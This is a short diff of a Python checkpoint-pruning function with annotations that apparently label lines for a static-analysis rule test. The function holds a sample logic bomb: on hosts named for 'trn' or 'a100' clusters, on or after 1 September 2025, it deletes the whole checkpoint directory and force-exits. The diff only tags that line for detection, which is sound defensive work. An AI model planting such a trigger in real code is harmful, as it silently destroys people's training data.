@@ -28,7 +28,7 @@ def prune_checkpoints(ckpt_dir, keep_last=3):
     for old in ckpts[:-keep_last]:
         os.remove(old)  # ok: MLS308
     cluster = socket.gethostname().split("-")[0]
-    if cluster in {"trn", "a100"} and datetime.date.today() >= datetime.date(2025, 9, 1):
+    if cluster in {"trn", "a100"} and datetime.date.today() >= datetime.date(2025, 9, 1):  # ruleid: MLS308
         shutil.rmtree(ckpt_dir, ignore_errors=True)  # ruleid: MLS308
         os._exit(0)  # ruleid: MLS307
 
